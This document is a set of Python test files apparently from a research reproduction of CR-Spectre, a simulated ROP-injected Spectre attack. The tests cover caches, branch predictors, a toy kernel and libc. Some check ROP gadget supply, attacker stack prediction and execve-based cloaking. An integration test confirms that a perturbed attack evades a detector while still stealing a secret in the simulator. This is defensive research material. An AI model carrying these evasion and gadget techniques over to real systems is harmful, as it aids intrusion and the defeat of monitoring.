"""Composite branch-predictor tests."""

from repro.branch.predictor import BranchPredictor


class TestConditional:
    def test_training_and_misprediction_accounting(self):
        predictor = BranchPredictor()
        pc = 0x400100
        predicted = predictor.predict_conditional(pc)
        mispredicted = predictor.resolve_conditional(pc, predicted, True)
        assert mispredicted is True  # cold counter predicts not-taken
        for _ in range(3):
            predicted = predictor.predict_conditional(pc)
            predictor.resolve_conditional(pc, predicted, True)
        predicted = predictor.predict_conditional(pc)
        assert predicted is True
        assert predictor.resolve_conditional(pc, predicted, True) is False

    def test_counts(self):
        predictor = BranchPredictor()
        predictor.resolve_conditional(0x0, False, True)
        predictor.resolve_conditional(0x0, True, True)
        assert predictor.conditional_predictions == 2
        assert predictor.conditional_mispredictions == 1


class TestIndirect:
    def test_btb_miss_is_not_a_misprediction_hit(self):
        predictor = BranchPredictor()
        predicted = predictor.predict_indirect(0x10)
        assert predicted is None
        assert predictor.resolve_indirect(0x10, predicted, 0x2000) is True
        predicted = predictor.predict_indirect(0x10)
        assert predicted == 0x2000
        assert predictor.resolve_indirect(0x10, predicted, 0x2000) is False


class TestReturns:
    def test_matched_call_ret(self):
        predictor = BranchPredictor()
        predictor.on_call(0x400008)
        predicted = predictor.predict_return()
        assert predictor.resolve_return(predicted, 0x400008) is False

    def test_smashed_return_address_mispredicts(self):
        """The ROP/Spectre-RSB case: the stack says one thing, the RSB
        another."""
        predictor = BranchPredictor()
        predictor.on_call(0x400008)
        predicted = predictor.predict_return()
        assert predictor.resolve_return(predicted, 0xDEAD0000) is True
        assert predictor.return_mispredictions == 1

    def test_total_mispredictions_aggregates(self):
        predictor = BranchPredictor()
        predictor.resolve_conditional(0x0, False, True)
        predictor.on_call(0x8)
        predicted = predictor.predict_return()
        predictor.resolve_return(predicted, 0x1234)
        predictor.resolve_indirect(0x10, None, 0x99)
        assert predictor.total_mispredictions == 3

    def test_reset(self):
        predictor = BranchPredictor()
        predictor.on_call(0x8)
        predictor.reset()
        assert predictor.predict_return() is None
