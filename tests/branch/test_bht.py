"""Branch history table tests: the structure Spectre v1 mistrains."""

import pytest

from repro.branch.bht import (
    BranchHistoryTable,
    STRONG_NOT_TAKEN,
    STRONG_TAKEN,
)


class TestSaturatingCounters:
    def test_initial_prediction_not_taken(self):
        bht = BranchHistoryTable(64)
        assert bht.predict(0x400000) is False

    def test_one_taken_flips_weak_counter(self):
        bht = BranchHistoryTable(64)
        bht.update(0x400000, taken=True)
        assert bht.predict(0x400000) is True

    def test_saturation_at_strong_taken(self):
        bht = BranchHistoryTable(64)
        for _ in range(10):
            bht.update(0x400000, taken=True)
        assert bht.counter(0x400000) == STRONG_TAKEN

    def test_saturation_at_strong_not_taken(self):
        bht = BranchHistoryTable(64)
        for _ in range(10):
            bht.update(0x400000, taken=False)
        assert bht.counter(0x400000) == STRONG_NOT_TAKEN

    def test_hysteresis(self):
        """A strongly-trained counter survives one opposite outcome —
        the property the Spectre strike relies on."""
        bht = BranchHistoryTable(64)
        for _ in range(6):
            bht.update(0x400000, taken=False)
        bht.update(0x400000, taken=True)  # one out-of-bounds resolution
        assert bht.predict(0x400000) is False


class TestIndexing:
    def test_distinct_pcs_distinct_counters(self):
        bht = BranchHistoryTable(1024)
        bht.update(0x400000, taken=True)
        bht.update(0x400000, taken=True)
        assert bht.predict(0x400000) is True
        assert bht.predict(0x400008) is False

    def test_aliasing_wraps_at_table_size(self):
        bht = BranchHistoryTable(16)
        bht.update(0x0, taken=True)
        bht.update(0x0, taken=True)
        # pc that indexes the same slot: 16 entries * 8-byte slots
        assert bht.predict(16 * 8) is True

    def test_power_of_two_required(self):
        with pytest.raises(ValueError):
            BranchHistoryTable(100)

    def test_reset(self):
        bht = BranchHistoryTable(16)
        bht.update(0x0, taken=True)
        bht.update(0x0, taken=True)
        bht.reset()
        assert bht.predict(0x0) is False
