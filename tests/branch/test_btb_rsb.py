"""BTB and RSB tests."""

from repro.branch.btb import BranchTargetBuffer
from repro.branch.rsb import ReturnStackBuffer


class TestBtb:
    def test_miss_then_hit(self):
        btb = BranchTargetBuffer(entries=4)
        assert btb.predict(0x100) is None
        btb.update(0x100, 0x2000)
        assert btb.predict(0x100) == 0x2000

    def test_target_update_overwrites(self):
        btb = BranchTargetBuffer()
        btb.update(0x100, 0x2000)
        btb.update(0x100, 0x3000)
        assert btb.predict(0x100) == 0x3000

    def test_lru_capacity(self):
        btb = BranchTargetBuffer(entries=2)
        btb.update(0x100, 1)
        btb.update(0x200, 2)
        btb.predict(0x100)       # refresh
        btb.update(0x300, 3)     # evicts 0x200
        assert btb.predict(0x200) is None
        assert btb.predict(0x100) == 1

    def test_counters(self):
        btb = BranchTargetBuffer()
        btb.predict(0x1)
        btb.update(0x1, 0x2)
        btb.predict(0x1)
        assert btb.misses == 1 and btb.hits == 1


class TestRsb:
    def test_lifo_order(self):
        rsb = ReturnStackBuffer(depth=4)
        rsb.push(0x100)
        rsb.push(0x200)
        assert rsb.predict() == 0x200
        assert rsb.predict() == 0x100

    def test_underflow_returns_none(self):
        rsb = ReturnStackBuffer(depth=4)
        assert rsb.predict() is None
        assert rsb.underflows == 1

    def test_overflow_drops_oldest(self):
        rsb = ReturnStackBuffer(depth=2)
        rsb.push(1)
        rsb.push(2)
        rsb.push(3)
        assert rsb.overflows == 1
        assert rsb.predict() == 3
        assert rsb.predict() == 2
        assert rsb.predict() is None

    def test_outcome_accounting(self):
        rsb = ReturnStackBuffer()
        rsb.record_outcome(True)
        rsb.record_outcome(False)
        assert rsb.hits == 1 and rsb.misses == 1

    def test_reset(self):
        rsb = ReturnStackBuffer()
        rsb.push(0x100)
        rsb.reset()
        assert rsb.occupancy == 0
