"""The committed BENCH_*.json baselines conform to the shared schema."""

import json
import pathlib

import pytest

from benchmarks.schema import (
    BENCH_FORMAT,
    BenchSchemaError,
    bench_path,
    build_bench_json,
    validate_bench,
)

REPO_ROOT = pathlib.Path(__file__).parent.parent


class TestCommittedBaselines:
    @pytest.mark.parametrize("name", ["exec", "obs"])
    def test_baseline_conforms(self, name):
        path = bench_path(name)
        assert path.is_file(), f"missing committed baseline {path}"
        payload = json.loads(path.read_text())
        validate_bench(payload)
        assert payload["bench"] == name

    def test_every_bench_json_at_root_is_validated(self):
        # A new BENCH_*.json must conform too — no schema stragglers.
        for path in REPO_ROOT.glob("BENCH_*.json"):
            validate_bench(json.loads(path.read_text()))


class TestBuildAndValidate:
    def test_build_fills_required_keys(self):
        payload = build_bench_json(
            "demo", knobs={"seed": 0}, runs={"1": {"wall_s": 1.5}},
            cpu_count=4, extra_key="ok",
        )
        assert payload["format"] == BENCH_FORMAT
        assert payload["bench"] == "demo"
        assert payload["cpu_count"] == 4
        assert payload["extra_key"] == "ok"

    def test_missing_key_rejected(self):
        with pytest.raises(BenchSchemaError, match="missing required"):
            validate_bench({"format": BENCH_FORMAT, "bench": "x",
                            "cpu_count": 1, "knobs": {}})

    def test_wrong_format_rejected(self):
        with pytest.raises(BenchSchemaError, match="unknown format"):
            validate_bench({"format": "old/0", "bench": "x",
                            "cpu_count": 1, "knobs": {},
                            "runs": {"1": {"s": 1}}})

    def test_empty_runs_rejected(self):
        with pytest.raises(BenchSchemaError, match="non-empty"):
            build_bench_json("demo", knobs={}, runs={})

    def test_non_numeric_measurement_rejected(self):
        with pytest.raises(BenchSchemaError, match="numeric"):
            build_bench_json("demo", knobs={},
                             runs={"1": {"wall_s": "fast"}})
