"""Set-associative cache tests, including clflush and property checks."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.cache.cache import Cache


def small_cache(ways=2, sets=4, line=64):
    return Cache("T", size=sets * ways * line, line_size=line, ways=ways)


class TestGeometry:
    def test_bad_geometry_rejected(self):
        with pytest.raises(ValueError):
            Cache("bad", size=1000, line_size=64, ways=8)
        with pytest.raises(ValueError):
            Cache("bad", size=3 * 64 * 2, line_size=64, ways=2)

    def test_line_address(self):
        cache = small_cache()
        assert cache.line_address(0x12345) == 0x12340

    def test_num_sets(self):
        cache = Cache("c", size=32 * 1024, line_size=64, ways=8)
        assert cache.num_sets == 64


class TestAccess:
    def test_cold_miss_then_hit(self):
        cache = small_cache()
        hit, _ = cache.access(0x1000)
        assert hit is False
        hit, _ = cache.access(0x1000)
        assert hit is True

    def test_same_line_different_offset_hits(self):
        cache = small_cache()
        cache.access(0x1000)
        hit, _ = cache.access(0x103F)
        assert hit is True

    def test_eviction_when_set_full(self):
        cache = small_cache(ways=2, sets=1)
        cache.access(0x0000)
        cache.access(0x0040)
        _, evicted = cache.access(0x0080)  # all map to the single set
        assert evicted == 0x0000  # LRU victim
        assert cache.probe(0x0000) is False

    def test_dirty_eviction_counts_writeback(self):
        cache = small_cache(ways=1, sets=1)
        cache.access(0x0000, is_write=True)
        cache.access(0x0040)
        assert cache.stats.writebacks == 1

    def test_stats_read_write_split(self):
        cache = small_cache()
        cache.access(0x0, is_write=False)
        cache.access(0x1000, is_write=True)
        assert cache.stats.read_accesses == 1
        assert cache.stats.write_accesses == 1
        assert cache.stats.write_misses == 1


class TestInvalidate:
    def test_clflush_present_line(self):
        cache = small_cache()
        cache.access(0x2000)
        assert cache.invalidate(0x2000) is True
        hit, _ = cache.access(0x2000)
        assert hit is False

    def test_clflush_absent_line(self):
        cache = small_cache()
        assert cache.invalidate(0x2000) is False

    def test_clflush_dirty_writes_back(self):
        cache = small_cache()
        cache.access(0x2000, is_write=True)
        cache.invalidate(0x2000)
        assert cache.stats.writebacks == 1

    def test_flush_all(self):
        cache = small_cache()
        for i in range(8):
            cache.access(i * 64)
        cache.flush_all()
        assert cache.occupancy == 0


class TestProperties:
    @settings(max_examples=50, deadline=None)
    @given(st.lists(
        st.tuples(st.integers(min_value=0, max_value=0xFFFF),
                  st.booleans()),
        max_size=200,
    ))
    def test_occupancy_never_exceeds_capacity(self, accesses):
        cache = small_cache(ways=2, sets=4)
        capacity = 2 * 4
        for address, is_write in accesses:
            cache.access(address, is_write)
            assert cache.occupancy <= capacity

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=0xFFFF),
                    max_size=200))
    def test_hits_plus_misses_equals_accesses(self, addresses):
        cache = small_cache()
        for address in addresses:
            cache.access(address)
        stats = cache.stats
        assert stats.hits + stats.misses == stats.accesses

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=0x3FFF),
                    max_size=100))
    def test_immediate_reaccess_always_hits(self, addresses):
        cache = small_cache(ways=4, sets=8)
        for address in addresses:
            cache.access(address)
            hit, _ = cache.access(address)
            assert hit is True

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=0xFFFF),
                    min_size=1, max_size=100))
    def test_probe_agrees_with_access_hit(self, addresses):
        cache = small_cache()
        for address in addresses:
            present = cache.probe(address)
            hit, _ = cache.access(address)
            assert hit == present
