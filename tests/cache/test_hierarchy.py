"""Cache-hierarchy tests: latencies, flush, shared-L2 semantics."""

from repro.cache.cache import Cache
from repro.cache.hierarchy import CacheConfig, CacheHierarchy


class TestLatencies:
    def test_memory_then_l1(self):
        h = CacheHierarchy()
        cold = h.data_access(0x1000)
        assert cold.memory_access and cold.latency == (
            h.config.l1_latency + h.config.l2_latency
            + h.config.memory_latency
        )
        warm = h.data_access(0x1000)
        assert warm.l1_hit and warm.latency == h.config.l1_latency

    def test_l2_hit_after_l1_eviction(self):
        config = CacheConfig(l1d_size=2 * 64, l1d_ways=2)  # 2-line L1D
        h = CacheHierarchy(config)
        h.data_access(0x0000)
        h.data_access(0x1000)
        h.data_access(0x2000)  # evicts 0x0000 from the 1-set L1
        result = h.data_access(0x0000)
        assert result.l2_hit and not result.l1_hit
        assert result.latency == config.l1_latency + config.l2_latency

    def test_instruction_path_counts_separately(self):
        h = CacheHierarchy()
        h.instruction_access(0x400000)
        assert h.l1i.stats.accesses == 1
        assert h.l1d.stats.accesses == 0


class TestFlush:
    def test_flush_line_removes_everywhere(self):
        h = CacheHierarchy()
        h.data_access(0x1000)
        assert h.flush_line(0x1000) is True
        result = h.data_access(0x1000)
        assert result.memory_access

    def test_flush_absent_line(self):
        h = CacheHierarchy()
        assert h.flush_line(0x9999000) is False

    def test_flush_all(self):
        h = CacheHierarchy()
        h.data_access(0x1000)
        h.instruction_access(0x400000)
        h.flush_all()
        assert h.data_access(0x1000).memory_access
        assert h.instruction_access(0x400000).memory_access


class TestSharedL2:
    def _shared_pair(self):
        config = CacheConfig()
        shared = Cache("L2", config.l2_size, config.line_size,
                       config.l2_ways, config.policy)
        a = CacheHierarchy(config, shared_l2=shared, asid=1)
        b = CacheHierarchy(config, shared_l2=shared, asid=2)
        return a, b

    def test_asid_prevents_false_sharing(self):
        a, b = self._shared_pair()
        a.data_access(0x1000)
        # Same virtual address from another process must MISS in L2.
        result = b.data_access(0x1000)
        assert result.memory_access

    def test_local_l2_attribution(self):
        a, b = self._shared_pair()
        a.data_access(0x1000)
        b.data_access(0x2000)
        assert a.l2_stats.accesses == 1
        assert b.l2_stats.accesses == 1

    def test_contention_evicts_other_asid(self):
        config = CacheConfig(l2_size=2 * 64, l2_ways=2,
                             l1d_size=64, l1d_ways=1)
        shared = Cache("L2", config.l2_size, config.line_size,
                       config.l2_ways, config.policy)
        a = CacheHierarchy(config, shared_l2=shared, asid=1)
        b = CacheHierarchy(config, shared_l2=shared, asid=2)
        a.data_access(0x1000)
        b.data_access(0x2000)
        b.data_access(0x3000)  # tiny shared L2 overflows
        # a's line was evicted by b's traffic: flush local L1 then re-touch
        a.l1d.flush_all()
        assert a.data_access(0x1000).memory_access

    def test_clflush_scoped_to_own_asid(self):
        a, b = self._shared_pair()
        a.data_access(0x1000)
        b.data_access(0x1000)
        a.flush_line(0x1000)
        b.l1d.flush_all()
        assert b.data_access(0x1000).l2_hit  # b's copy survived
