"""Replacement-policy tests."""

import pytest

from repro.cache.replacement import (
    FifoPolicy,
    LruPolicy,
    RandomPolicy,
    make_policy,
)


class TestLru:
    def test_prefers_invalid_ways(self):
        policy = LruPolicy(4)
        policy.on_access(0)
        assert policy.victim([True, False, True, True]) == 1

    def test_evicts_least_recent(self):
        policy = LruPolicy(3)
        for way in (0, 1, 2):
            policy.on_access(way)
        policy.on_access(0)  # order now: 1 oldest, then 2, then 0
        assert policy.victim([True] * 3) == 1

    def test_invalidate_makes_way_oldest(self):
        policy = LruPolicy(2)
        policy.on_access(0)
        policy.on_access(1)
        policy.on_invalidate(1)
        assert policy.victim([True, True]) == 1


class TestFifo:
    def test_round_robin_order(self):
        policy = FifoPolicy(3)
        valid = [True] * 3
        assert [policy.victim(valid) for _ in range(4)] == [0, 1, 2, 0]

    def test_hits_do_not_change_order(self):
        policy = FifoPolicy(2)
        policy.on_access(1)
        policy.on_access(1)
        assert policy.victim([True, True]) == 0


class TestRandom:
    def test_deterministic_with_seed(self):
        a = RandomPolicy(8, seed=3)
        b = RandomPolicy(8, seed=3)
        valid = [True] * 8
        assert [a.victim(valid) for _ in range(10)] == \
            [b.victim(valid) for _ in range(10)]

    def test_in_range(self):
        policy = RandomPolicy(4, seed=1)
        for _ in range(50):
            assert 0 <= policy.victim([True] * 4) < 4


class TestFactory:
    def test_known_names(self):
        assert isinstance(make_policy("lru", 4), LruPolicy)
        assert isinstance(make_policy("fifo", 4), FifoPolicy)
        assert isinstance(make_policy("random", 4), RandomPolicy)

    def test_unknown_name(self):
        with pytest.raises(ValueError):
            make_policy("plru", 4)
