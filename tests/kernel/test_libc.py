"""Behavioural tests for the linked libc routines."""

from repro.kernel.libc import libc_symbols
from tests.conftest import run_source


class TestStringRoutines:
    def test_strcpy(self):
        process = run_source("""
        main:
            la   a0, dst
            la   a1, src
            call strcpy
            la   a0, dst
            call puts
            li   a0, 0
            call libc_exit
        .data
        src: .asciiz "copied!"
        dst: .space 16
        """)
        assert process.stdout_text() == "copied!"

    def test_strlen(self):
        process = run_source("""
        main:
            la   a0, s
            call strlen
            mov  a0, rv
            call libc_exit
        .data
        s: .asciiz "four"
        """)
        assert process.exit_code == 4

    def test_strlen_empty(self):
        process = run_source("""
        main:
            la   a0, s
            call strlen
            mov  a0, rv
            call libc_exit
        .data
        s: .asciiz ""
        """)
        assert process.exit_code == 0

    def test_memcpy_exact_length(self):
        process = run_source("""
        main:
            la   a0, dst
            la   a1, src
            li   a2, 3
            call memcpy
            la   t0, dst
            lb   a0, 3(t0)     ; byte beyond n must stay 0
            call libc_exit
        .data
        src: .ascii "abcdef"
        dst: .space 8
        """)
        assert process.exit_code == 0

    def test_memset(self):
        process = run_source("""
        main:
            la   a0, buf
            li   a1, 0x5A
            li   a2, 4
            call memset
            la   t0, buf
            lb   a0, 3(t0)
            call libc_exit
        .data
        buf: .space 8
        """)
        assert process.exit_code == 0x5A

    def test_strcmp_orders(self):
        process = run_source("""
        main:
            la   a0, x
            la   a1, y
            call strcmp
            slt  a0, rv, zero     ; "abc" < "abd" -> 1
            call libc_exit
        .data
        x: .asciiz "abc"
        y: .asciiz "abd"
        """)
        assert process.exit_code == 1

    def test_strcmp_equal(self):
        process = run_source("""
        main:
            la   a0, x
            la   a1, x
            call strcmp
            mov  a0, rv
            call libc_exit
        .data
        x: .asciiz "same"
        """)
        assert process.exit_code == 0


class TestHelpers:
    def test_abs32(self):
        process = run_source("""
        main:
            li   a0, -17
            call abs32
            mov  a0, rv
            call libc_exit
        """)
        assert process.exit_code == 17

    def test_clamp(self):
        process = run_source("""
        main:
            li   a0, 99
            li   a1, 0
            li   a2, 10
            call clamp
            mov  a0, rv
            call libc_exit
        """)
        assert process.exit_code == 10

    def test_checked_add_saturates(self):
        process = run_source("""
        main:
            li   a0, 0x7FFFFFFF
            li   a1, 5
            call checked_add
            ; saturated to INT_MAX: low byte is 0xFF
            andi a0, rv, 0xFF
            call libc_exit
        """)
        assert process.exit_code == 0xFF

    def test_swap_words(self):
        process = run_source("""
        main:
            la   a0, x
            la   a1, y
            call swap_words
            la   t0, x
            lw   a0, 0(t0)
            call libc_exit
        .data
        x: .word 1
        y: .word 2
        """)
        assert process.exit_code == 2


class TestGadgetSupply:
    """The libc functions double as the ROP gadget source."""

    def test_expected_symbols_exported(self):
        names = libc_symbols()
        for required in ("strcpy", "memcpy", "libc_execve", "libc_exit",
                         "swap_words", "abs32", "clamp"):
            assert required in names

    def test_epilogues_provide_pop_ret_gadgets(self):
        from repro.attack.gadgets import scan_program
        from repro.isa.registers import A0, A1
        from repro.kernel.loader import build_binary

        program = build_binary("g", "main:\n halt")
        scanner = scan_program(program, 0x400000)
        # swap_words epilogue: pop a0; pop a1; ret
        gadget = scanner.find_pop_sequence([A0, A1])
        assert gadget.length == 3
