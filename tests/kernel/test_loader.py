"""Loader tests: placement, relocation, argv, sp prediction."""

import pytest
from hypothesis import given, settings, strategies as st

from repro.errors import LoaderError
from repro.isa.assembler import assemble
from repro.isa.registers import A0, A1, A2, SP
from repro.kernel.loader import (
    TARGET_BASE,
    build_binary,
    compute_initial_sp,
    load_image,
)
from repro.mem.layout import AddressSpaceLayout
from repro.mem.memory import Memory, PERM_X


SIMPLE = """
main:
    halt
.data
value: .word 7
"""


class TestLoadImage:
    def test_segments_mapped(self):
        memory = Memory()
        image, regs = load_image(memory, assemble(SIMPLE))
        layout = image.layout
        assert memory.segment_by_name("text").base == layout.text_base
        assert memory.segment_by_name("data").base == layout.data_base
        assert memory.segment_by_name("stack").size == layout.stack_size

    def test_text_is_executable_data_is_not(self):
        memory = Memory()
        load_image(memory, assemble(SIMPLE))
        assert memory.segment_by_name("text").perms & PERM_X
        assert not memory.segment_by_name("data").perms & PERM_X

    def test_entry_address(self):
        memory = Memory()
        image, _ = load_image(memory, assemble(SIMPLE))
        assert image.entry_address == image.layout.text_base

    def test_data_contents_relocated(self):
        memory = Memory()
        image, _ = load_image(memory, assemble(SIMPLE))
        assert memory.load_word(image.layout.data_base) == 7

    def test_missing_entry_symbol(self):
        program = assemble(".data\nx: .word 1")
        with pytest.raises(LoaderError):
            load_image(Memory(), program)

    def test_target_segment(self):
        memory = Memory()
        load_image(memory, assemble(SIMPLE), target_data=b"SECRET")
        assert memory.read_bytes(TARGET_BASE, 6) == b"SECRET"
        segment = memory.segment_by_name("target")
        assert not segment.perms & 2  # read-only

    def test_address_of_symbol(self):
        memory = Memory()
        image, _ = load_image(memory, assemble(SIMPLE))
        assert image.address_of("value") == image.layout.data_base
        assert image.address_of("main") == image.layout.text_base


class TestArgv:
    def test_argc_argv_registers(self):
        memory = Memory()
        _, regs = load_image(memory, assemble(SIMPLE),
                             argv=["/bin/x", b"payload"])
        assert regs[A0] == 2
        argv_ptr = regs[A1]
        first = memory.load_word(argv_ptr)
        assert memory.read_cstring(first) == b"/bin/x"
        second = memory.load_word(argv_ptr + 4)
        assert memory.read_bytes(second, 7) == b"payload"
        assert memory.load_word(argv_ptr + 8) == 0  # NULL terminator

    def test_length_array_binary_safe(self):
        """The ROP payload contains NULs; lengths must be true sizes."""
        blob = b"AB\x00CD"
        memory = Memory()
        _, regs = load_image(memory, assemble(SIMPLE),
                             argv=["/bin/x", blob])
        lengths_ptr = regs[A2]
        assert memory.load_word(lengths_ptr) == 6
        assert memory.load_word(lengths_ptr + 4) == 5

    def test_sp_aligned(self):
        memory = Memory()
        _, regs = load_image(memory, assemble(SIMPLE), argv=["a", "bb"])
        assert regs[SP] % 64 == 0

    def test_oversized_argv_rejected(self):
        with pytest.raises(LoaderError):
            load_image(Memory(), assemble(SIMPLE), argv=[b"x" * 9000])

    def test_bad_argv_type_rejected(self):
        with pytest.raises(LoaderError):
            load_image(Memory(), assemble(SIMPLE), argv=[123])


class TestSpPrediction:
    """compute_initial_sp is the attacker's model of the loader; the two
    must agree exactly or every ROP payload misses its buffer."""

    @settings(max_examples=40, deadline=None)
    @given(st.lists(
        st.integers(min_value=0, max_value=400), min_size=1, max_size=4,
    ))
    def test_prediction_matches_loader(self, lengths):
        argv = [b"x" * n for n in lengths]
        memory = Memory()
        _, regs = load_image(memory, assemble(SIMPLE), argv=argv)
        predicted = compute_initial_sp(AddressSpaceLayout(), lengths)
        assert predicted == regs[SP]


class TestBuildBinary:
    def test_links_libc(self):
        program = build_binary("t", "main:\n call strlen\n halt")
        assert program.has_symbol("strlen")
        assert program.has_symbol("libc_execve")

    def test_without_libc(self):
        program = build_binary("t", "main:\n halt", link_libc=False)
        assert not program.has_symbol("strlen")
