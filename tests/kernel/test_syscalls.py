"""Syscall interface tests, especially execve's in-place image swap."""

import pytest

from repro.errors import KernelError
from repro.kernel import System, build_binary
from tests.conftest import run_source


class TestBasicSyscalls:
    def test_exit_code(self):
        process = run_source("""
        main:
            li a0, 1
            li a1, 9
            syscall
        """)
        assert process.exit_code == 9

    def test_write_returns_length(self):
        process = run_source("""
        main:
            li a0, 2
            li a1, 1
            la a2, msg
            li a3, 3
            syscall
            mov a0, rv
            call libc_exit
        .data
        msg: .ascii "abc"
        """)
        assert process.exit_code == 3
        assert process.stdout_text() == "abc"

    def test_getpid(self):
        process = run_source("""
        main:
            li a0, 4
            syscall
            mov a0, rv
            call libc_exit
        """)
        assert process.exit_code >= 100

    def test_unknown_syscall_faults(self):
        process = run_source("""
        main:
            li a0, 999
            syscall
        """)
        assert isinstance(process.fault, KernelError)

    def test_syscall_log(self):
        process = run_source("""
        main:
            li a0, 4
            syscall
            halt
        """)
        log = process.cpu.syscall_handler.log
        assert log[0][0] == "getpid"


class TestExecve:
    def _system(self):
        system = System(seed=3)
        caller = build_binary("caller", """
        main:
            la   a0, path
            li   a1, 0
            call libc_execve
            li   a0, 1        ; only reached if execve failed
            call libc_exit
        .data
        path: .asciiz "/bin/other"
        """)
        other = build_binary("other", """
        main:
            li a0, 42
            call libc_exit
        """)
        system.install_binary("/bin/caller", caller)
        system.install_binary("/bin/other", other)
        return system

    def test_image_replaced_pid_kept(self):
        system = self._system()
        process = system.spawn("/bin/caller")
        pid = process.pid
        process.run_to_completion()
        assert process.exit_code == 42
        assert process.pid == pid
        assert process.image_name == "other"

    def test_pmu_counters_survive_execve(self):
        """The profiler keeps attributing events to the same process —
        the cloaking property the paper exploits."""
        system = self._system()
        process = system.spawn("/bin/caller")
        process.run_to_completion()
        # Counters include both the caller's and the new image's work.
        assert process.pmu.counters["syscall_instructions"] == 2

    def test_execve_missing_binary_faults(self):
        system = System(seed=3)
        program = build_binary("c", """
        main:
            la   a0, path
            li   a1, 0
            call libc_execve
            halt
        .data
        path: .asciiz "/bin/nonexistent"
        """)
        system.install_binary("/bin/c", program)
        process = system.spawn("/bin/c")
        process.run_to_completion()
        assert isinstance(process.fault, KernelError)

    def test_execve_passes_argument(self):
        system = System(seed=3)
        caller = build_binary("caller", """
        main:
            la   a0, path
            la   a1, arg
            call libc_execve
        .data
        path: .asciiz "/bin/echoarg"
        arg:  .asciiz "xyz"
        """)
        echoarg = build_binary("echoarg", """
        main:
            ; argv[1] length -> exit code
            lw   t0, 4(a2)
            mov  a0, t0
            call libc_exit
        """)
        system.install_binary("/bin/caller", caller)
        system.install_binary("/bin/echoarg", echoarg)
        process = system.spawn("/bin/caller")
        process.run_to_completion()
        assert process.exit_code == 3
