"""Scheduler, process lifecycle and System facade tests."""

import pytest

from repro.errors import KernelError
from repro.kernel import ProcessState, Scheduler, System, build_binary

COUNTER = """
main:
    li t0, 0
loop:
    slti t1, t0, ITERS
    beq  t1, zero, done
    addi t0, t0, 1
    jmp  loop
done:
    li a0, 0
    call libc_exit
"""


def _install_counter(system, path, iters):
    system.install_binary(
        path, build_binary(path, COUNTER.replace("ITERS", str(iters)))
    )


class TestScheduler:
    def test_round_robin_interleaves(self):
        system = System(seed=1, quantum=50)
        _install_counter(system, "/bin/a", 500)
        _install_counter(system, "/bin/b", 500)
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/b")
        quanta = system.run()
        assert a.state == ProcessState.EXITED
        assert b.state == ProcessState.EXITED
        assert quanta > 2  # genuinely sliced

    def test_max_quanta_stops_early(self):
        system = System(seed=1, quantum=50)
        _install_counter(system, "/bin/a", 100000)
        a = system.spawn("/bin/a")
        system.run(max_quanta=3)
        assert a.alive

    def test_on_quantum_callback(self):
        system = System(seed=1, quantum=50)
        _install_counter(system, "/bin/a", 300)
        a = system.spawn("/bin/a")
        seen = []
        system.run(on_quantum=lambda proc, n: seen.append((proc.pid, n)))
        assert seen and all(pid == a.pid for pid, _ in seen)

    def test_context_switch_flush(self):
        system = System(seed=1, quantum=50)
        system.scheduler.context_switch_flush = True
        _install_counter(system, "/bin/a", 400)
        _install_counter(system, "/bin/b", 400)
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/b")
        system.run()
        # Flushing forces extra I-cache misses beyond the solo baseline.
        solo = System(seed=1, quantum=50)
        _install_counter(solo, "/bin/a", 400)
        sa = solo.spawn("/bin/a")
        solo.run()
        assert a.pmu.read()["l1i_misses"] > sa.pmu.read()["l1i_misses"]

    def test_invalid_quantum(self):
        with pytest.raises(ValueError):
            Scheduler(quantum=0)


class TestProcessLifecycle:
    def test_fault_recorded_not_raised(self):
        system = System(seed=1)
        system.install_binary("/bin/crash", build_binary("crash", """
        main:
            li t0, 0x0BADBEE0
            lw t1, 0(t0)
        """))
        process = system.spawn("/bin/crash")
        process.run_to_completion()
        assert process.state == ProcessState.FAULTED
        assert process.fault is not None
        assert process.step_quantum(100) == 0  # dead processes stay dead

    def test_repr(self):
        system = System(seed=1)
        _install_counter(system, "/bin/a", 1)
        process = system.spawn("/bin/a")
        assert "ready" in repr(process)


class TestSystem:
    def test_missing_binary(self):
        with pytest.raises(KernelError):
            System(seed=1).spawn("/bin/ghost")

    def test_pids_unique_and_increasing(self):
        system = System(seed=1)
        _install_counter(system, "/bin/a", 1)
        pids = [system.spawn("/bin/a").pid for _ in range(3)]
        assert pids == sorted(pids)
        assert len(set(pids)) == 3

    def test_aslr_randomizes_layouts(self):
        system = System(seed=7, aslr=True)
        _install_counter(system, "/bin/a", 1)
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/a")
        assert a.image.layout != b.image.layout

    def test_no_aslr_is_deterministic(self):
        system = System(seed=7)
        _install_counter(system, "/bin/a", 1)
        a = system.spawn("/bin/a")
        b = system.spawn("/bin/a")
        assert a.image.layout == b.image.layout
