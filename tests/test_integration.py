"""Full-pipeline integration tests: the paper's story end to end."""

from repro import (
    PerturbParams,
    Scenario,
    ScenarioConfig,
    make_detector,
)
from repro.hid import DEFAULT_FEATURES, samples_to_dataset


class TestFullPipeline:
    """Stage a campaign once and verify every paper claim in sequence."""

    def test_detect_then_evade(self):
        scenario = Scenario(ScenarioConfig(seed=31))

        # 1. The ROP-injected attack really steals the secret.
        recovered, correct = scenario.verify_secret_recovery("v1")
        assert recovered == scenario.config.secret

        # 2. A trained HID detects the plain injected Spectre.
        benign = scenario.benign_samples(90)
        attack = scenario.attack_samples(45, variant="v1")
        dataset = samples_to_dataset(benign, attack, DEFAULT_FEATURES)
        train, test = dataset.split(0.7, seed=31)
        detector = make_detector("mlp", seed=31)
        detector.fit(train)
        assert detector.accuracy_on(test) > 0.9

        # 3. The dispersion-perturbed CR-Spectre evades that detector...
        evading = PerturbParams(delay=2500, calls_per_byte=3)
        cr_attack = scenario.attack_samples(45, variant="v1",
                                            perturb=evading)
        eval_ds = samples_to_dataset(benign[:15], cr_attack,
                                     DEFAULT_FEATURES)
        accuracy = detector.accuracy_on(eval_ds)
        assert accuracy < 0.55, f"CR-Spectre detected at {accuracy:.0%}"

        # 4. ...while STILL stealing the secret.
        recovered, _ = scenario.verify_secret_recovery(
            "v1", perturb=evading
        )
        assert recovered == scenario.config.secret


class TestPublicApi:
    def test_top_level_exports(self):
        import repro

        for name in repro.__all__:
            assert getattr(repro, name, None) is not None, name

    def test_version(self):
        import repro

        assert repro.__version__
