"""TLB model tests."""

